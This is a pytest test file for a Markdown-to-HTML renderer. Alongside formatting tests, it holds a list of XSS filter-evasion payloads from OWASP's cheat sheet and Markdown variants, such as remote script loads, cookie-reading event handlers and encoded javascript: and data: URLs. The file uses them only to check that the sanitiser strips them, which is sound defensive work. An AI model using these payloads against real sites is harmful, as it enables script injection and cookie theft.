# ruff: noqa: E501  (the cheat sheet's vectors are kept whole, as published)
"""The one text format, in memory: Markdown to clean HTML (plein_web.markdown), its folding,
and hostile input (OWASP's XSS filter-evasion cheat sheet) that must never become markup."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from plein_web.markdown import (
    HTML_AS_TEXT,
    IMAGE_AS_LINK,
    LINK_DROPPED,
    TAGS,
    Mention,
    fold,
    render,
    sanitised,
)

GREET = [Mention("Greet Mulder", "/people/u-1"), Mention("greet", "/people/u-1")]


def html(text: str) -> str:
    return render(text, GREET).html


def test_emphasis_strikethrough_and_single_newlines_as_breaks() -> None:
    out = html("**vet** en _schuin_ en ~~weg~~\ntweede regel")
    assert "<strong>vet</strong>" in out and "<em>schuin</em>" in out and "<s>weg</s>" in out
    assert "<br>" in out  # people type lines, not documents


def test_a_table_keeps_its_cells_and_alignment() -> None:
    out = html("| Wie | Hoeveel |\n|:---|---:|\n| Bo | 3 |")
    assert "<table>" in out and '<th style="text-align:left">Wie</th>' in out
    assert '<td style="text-align:right">3</td>' in out


def test_lists_quotes_and_code() -> None:
    out = html("- een\n- twee\n\n1. eerst\n\n> gezegd\n\n```\nif a < b:\n```\n`x<y`")
    assert "<ul>\n<li>een</li>" in out and "<ol>" in out
    assert "<blockquote>" in out
    assert "<pre><code>if a &lt; b:\n</code></pre>" in out and "<code>x&lt;y</code>" in out


def test_mentions_whole_names_and_topics_are_links_but_not_inside_code_or_links() -> None:
    out = html("Vraag @Greet Mulder over #koffie, `@greet #niet` [#ook niet](/x)")
    assert '<a class="mention" href="/people/u-1">@Greet Mulder</a>' in out
    assert '<a class="topic" href="/topics/koffie">#koffie</a>' in out
    assert "<code>@greet #niet</code>" in out and '<a href="/x">#ook niet</a>' in out


def test_links_outside_get_nofollow_noopener_and_a_new_tab_and_bare_urls_link() -> None:
    out = html("[plan](https://example.com/a?b=1&c=2) en https://example.org/x.")
    assert (
        '<a href="https://example.com/a?b=1&amp;c=2" rel="nofollow noopener" target="_blank">'
        "plan</a>" in out
    )
    assert '<a href="https://example.org/x" rel="nofollow noopener" target="_blank">' in out
    assert '<a href="/groups">' in html("[groepen](/groups)")  # on Plein: same tab


def test_a_javascript_link_is_dropped_and_the_author_told() -> None:
    result = render("[klik](javascript:alert(1)) hier")
    assert result.html == "<p>klik hier</p>\n" and result.notes == [LINK_DROPPED]


def test_only_plein_images_load_others_become_links() -> None:
    result = render("![grafiek](/files/f-1/content) ![elders](https://example.com/x.png)")
    assert '<img src="/files/f-1/content" alt="grafiek">' in result.html
    assert '<a href="https://example.com/x.png" rel="nofollow noopener" target="_blank">' in (
        result.html
    )
    assert 'example.com/x.png"' not in result.html.split("<a")[0]
    assert result.notes == [IMAGE_AS_LINK]


def test_typed_html_shows_as_text_and_the_author_is_told() -> None:
    result = render("<b>vet</b>")
    assert result.html == "<p>&lt;b&gt;vet&lt;/b&gt;</p>\n" and result.notes == [HTML_AS_TEXT]


def test_broken_markdown_renders_as_text() -> None:
    out = html("**niet dicht [link](  | a |\n```\nnooit gesloten")
    assert "**niet dicht" in out and "nooit gesloten" in out


def test_a_fold_ends_at_a_block_so_both_halves_are_whole() -> None:
    table = "| a | b |\n|---|---|\n" + "".join(f"| {i} | x |\n" for i in range(3))
    text = "Intro.\n\n" + table + "\n" + "woord " * 200
    head, tail = fold(text, 600, 8)
    assert head.startswith("Intro.") and head.endswith("| 2 | x |") and tail.startswith("woord")
    code = "```\n" + "regel\n" * 20 + "```\n\nna"
    head, tail = fold(code, 600, 8)
    assert head.endswith("```") and tail == "na"  # code is never cut in two


# OWASP XSS filter-evasion cheat sheet vectors (and a few more), typed as a post's text.
VECTORS = [
    "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>',
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<details open ontoggle=alert(1)>",
    # The same ideas through Markdown's own syntax: link targets, image sources and alt text.
    "[klik](javascript:alert(1))",
    "[klik](JaVaScRiPt:alert(1))",
    "[klik](javascript&#58;alert(1))",
    "[klik](&#106;avascript:alert(1))",
    "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[klik](vbscript:msgbox(1))",
    "[klik]( javascript:alert(1) )",
    "<javascript:alert(1)>",
    '[a](https://x.nl "onmouseover=alert(1)")',
    '[a](https://x.nl" onmouseover="alert(1))',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![" onerror="alert(1)](/files/x)',
    "![<img src=x onerror=alert(1)>](/files/x)",
    '![x](/files/x" onerror="alert(1))',
    "[ref]: javascript:alert(1)\n\n[ref]",
    "[bad](http://[::1/x) ![bad](http://[::1/x)",
    "@<img src=x onerror=alert(1)> #<script>alert(1)</script>",
]


class _Elements(HTMLParser):
    """Every element and attribute in a piece of HTML, as a browser's parser finds them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


@pytest.mark.parametrize("vector", VECTORS)
def test_hostile_input_never_becomes_script_handlers_or_script_urls(vector: str) -> None:
    out = render(vector, GREET).html
    for tag, attrs in _Elements(out).found:
        assert tag in TAGS, out  # the allow-list only: no script, iframe, svg, style, object
        for name, value in attrs:
            assert not name.startswith("on"), out
            target = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name in ("href", "src"):
                assert not target.startswith(("javascript:", "data:", "vbscript:")), out


def test_the_sanitiser_alone_stops_what_a_parser_bug_might_let_through() -> None:
    raw = (
        '<a href="javascript:alert(1)" onclick="x()" rel="opener" target="_top">a</a>'
        '<script>alert(1)</script><img src="https://evil.example/x.png" onerror="x()">'
        '<span class="mention" style="color:red">b</span><iframe src="/x"></iframe>'
    )
    assert sanitised(raw) == '<a>a</a><img><span class="mention">b</span>'
